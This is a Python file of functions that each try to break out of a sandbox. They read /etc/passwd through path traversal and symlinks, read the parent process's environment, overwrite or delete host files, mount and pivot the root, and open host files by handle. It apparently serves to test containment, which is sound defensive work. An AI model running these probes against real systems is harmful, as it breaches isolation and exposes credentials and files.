"""A tool source that attacks files. Each function gets `target`, facts about the host that an attacker might know, and
returns something true when it has worked. Raising, returning nothing, or dying means that it was stopped.
"""

import ctypes
import os
import platform
import stat
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"


def call(x86, arm, *arguments):
    result = libc.syscall(x86 if X86 else arm, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read_a_host_file(target):
    return open(target["canary"]).read()


def overwrite_a_host_file(target):
    with open(target["prey"], "w") as file:
        file.write("overwritten")
    return True


def delete_a_host_file(target):
    os.unlink(target["prey"])
    return True


def rename_a_file_over_a_host_file(target):
    open("mine", "w").close()
    os.replace("mine", target["prey"])
    return True


def link_a_host_file_into_the_scratch_folder(target):
    os.link(target["canary"], "hard")
    return open("hard").read()


def make_a_host_file_executable_by_all(target):
    os.chmod(target["prey"], 0o777)
    return True


def take_a_host_file_for_oneself(target):
    os.chown(target["prey"], os.getuid(), os.getgid())
    return True


def read_the_password_file(target):
    return open("/etc/passwd").read()


def climb_out_with_dots(target):
    return open("../" * 20 + "etc/passwd").read()


def climb_out_from_an_open_folder(target):
    return open(os.open("etc/passwd", os.O_RDONLY, dir_fd=os.open("/", os.O_PATH))).read()


def go_through_a_symlink_to_the_root(target):
    os.symlink("/", "root")
    return open("root/etc/passwd").read()


def look_into_the_home_folder(target):
    return os.listdir(os.path.expanduser("~"))


def look_into_the_repository(target):
    return os.listdir(target["repository"])


def find_a_strange_device(target):
    return sorted(set(os.listdir("/dev")) - {"null", "zero", "urandom"})


def write_into_the_standard_library(target):
    open(os.__file__, "a").close()
    return True


def write_into_the_guest(target):
    open(sys.modules["__main__"].__file__, "a").close()
    return True


def list_proc(target):
    return os.listdir("/proc")


def list_sys(target):
    return os.listdir("/sys")


def read_the_environment_of_the_parent(target):
    return open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace")


def make_a_disk_device(target):
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    return True


def make_a_fifo_to_wait_at(target):
    os.mkfifo("fifo")
    return True


def change_the_root(target):
    os.chroot("/")
    return True


def mount_something(target):
    os.mkdir("there")
    return libc.mount(b"x", b"there", b"tmpfs", 0, None) == 0


def unmount_a_folder(target):
    return libc.umount2(target["mount"].encode(), 2) == 0


def make_a_read_only_mount_writable(target):
    return libc.mount(None, target["mount"].encode(), None, 32 | 4096, None) == 0


def pivot_the_root(target):
    os.mkdir("new")
    if libc.mount(b"x", b"new", b"tmpfs", 0, None) != 0:
        return False
    os.mkdir("new/old")
    return call(155, 41, b"new", b"new/old") == 0


def open_a_new_file_system(target):
    return call(430, 430, b"tmpfs", 0)


def clone_the_tree_of_mounts(target):
    return call(428, 428, -100, b"/", 0x8001)


def set_attributes_of_a_mount(target):
    return call(442, 442, -100, target["mount"].encode(), 0, struct.pack("QQQQ", 0, 1, 0, 0), 32) == 0


def pick_a_mounted_file_system(target):
    return call(433, 433, -100, target["mount"].encode(), 0)


def _mounts():
    ids = (ctypes.c_uint64 * 200)()
    count = call(458, 458, struct.pack("IIQQ", 24, 0, 2**64 - 1, 0), ids, 200, 0)
    for identity in ids[:count]:
        text = ctypes.create_string_buffer(4096)
        if libc.syscall(457, struct.pack("IIQQ", 24, 0, identity, 0x38), text, 4096, 0) == 0:
            yield from (part.decode() for part in text.raw[512:].split(b"\0") if part)


def read_host_paths_from_the_table_of_mounts(target):
    return list(_mounts())


def _handle(path):
    room = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    call(303, 264, -100, path, room, ctypes.create_string_buffer(4), 0)
    return room


def name_a_file_by_its_handle(target):
    return _handle(b"/").raw[8:40].hex()


def open_a_host_file_by_handle(target):
    try:
        handle = _handle(target["canary"].encode())
    except OSError:
        handle = ctypes.create_string_buffer(136)
    folder = os.open("/", os.O_RDONLY)
    return os.read(call(304, 265, folder, handle, 0), 100).decode()


def lock_a_library_for_everyone(target):
    import fcntl

    fcntl.flock(os.open(os.__file__, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
    return True


def watch_who_opens_a_library(target):
    import fcntl

    fcntl.fcntl(os.open(os.path.dirname(os.__file__), os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)
    return True


def watch_through_an_argument_of_64_bits(target):
    folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    return call(72, 25, folder, ctypes.c_long((1 << 32) | 1026), ctypes.c_long(1)) == 0


def watch_with_inotify(target):
    return libc.inotify_init1(0) >= 0


def watch_with_fanotify(target):
    return call(300, 262, 0, 0)


def see_what_others_have_read(target):
    """By what of a library is in the page cache."""
    file = os.open(sys.executable, os.O_RDONLY)
    seen = (ctypes.c_uint64 * 5)()
    call(451, 451, file, struct.pack("QQ", 0, 0), seen, 0)
    return seen[0]


def write_out_the_disks_of_the_machine(target):
    return call(162, 81) == 0


def write_out_one_disk_of_the_machine(target):
    return call(306, 267, os.open(os.__file__, os.O_RDONLY)) == 0


def use_an_inherited_descriptor(target):
    found = {}
    for fd in range(4, 256):
        try:
            found[fd] = os.fstat(fd).st_mode
        except OSError:
            continue
    return found
